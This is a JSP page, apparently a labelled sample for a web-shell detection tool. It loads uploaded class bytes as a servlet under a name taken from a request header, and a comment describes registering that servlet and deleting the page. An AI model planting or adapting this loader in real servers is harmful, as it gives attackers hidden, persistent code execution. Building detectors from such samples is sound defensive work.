<%@ page import="javax.servlet.*" %>
<%-- triage-expect: triage_jsp_class_loader --%>
<%!
    class L extends ClassLoader {
        L(ClassLoader p) { super(p); }
        Class<?> load(String n, byte[] b) { return super.defineClass(n, b, 0, b.length); }
    }
%>
<%
    // uploaded class bytes made a servlet and registered with the JSP container, this page then removed
    byte[] bytes = new byte[request.getContentLength()];
    new java.io.DataInputStream(request.getInputStream()).readFully(bytes);
    Class<?> cls = new L(this.getClass().getClassLoader()).load(request.getHeader("X-N"), bytes);
    Servlet s = (Servlet) cls.newInstance();
    s.init(getServletConfig());
    Object jctxt = application.getAttribute("org.apache.jasper.compiler.JspRuntimeContext");
    // jctxt.addWrapper(...) and new java.io.File(application.getRealPath(request.getServletPath())).delete()
%>
